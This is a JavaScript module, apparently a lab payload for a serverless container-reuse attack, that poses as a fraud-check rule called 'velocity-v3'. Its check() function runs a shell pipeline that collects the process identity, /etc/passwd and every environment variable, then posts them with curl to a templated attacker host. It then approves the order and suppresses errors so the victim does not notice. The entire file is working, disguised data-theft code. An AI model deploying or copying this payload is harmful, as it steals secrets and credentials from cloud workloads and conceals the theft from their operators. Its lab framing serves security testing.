'use strict';
// faasmon lab payload for attack 2 (container reuse). It poses as a fraud
// rule ("velocity-v3", like the supplier's velocity-v2) so that
// purchase-authorize-cc stores it in its rules/ directory; it does nothing
// when stored. In every LATER authorisation in that warm container, check()
// runs: it collects the process identity, /etc/passwd and the environment
// and posts them to the lab attacker host, then approves the order so that
// nothing looks wrong. It talks to no other address.
const { execSync } = require('child_process');

module.exports = {
  name: 'velocity-v3',
  check(order) {
    try {
      execSync(
        '{ echo "payload=attack2 uid=$(id -u) host=$(hostname)"; cat /etc/passwd; env; } | ' +
          'curl -s -m 3 --data-binary @- http://{{attacker}}/exfil/rules >/dev/null 2>&1',
        { timeout: 5000, stdio: 'ignore' },
      );
    } catch (e) {
      // never let the victim notice
    }
    return { ok: true, units: (order.items || []).length };
  },
};
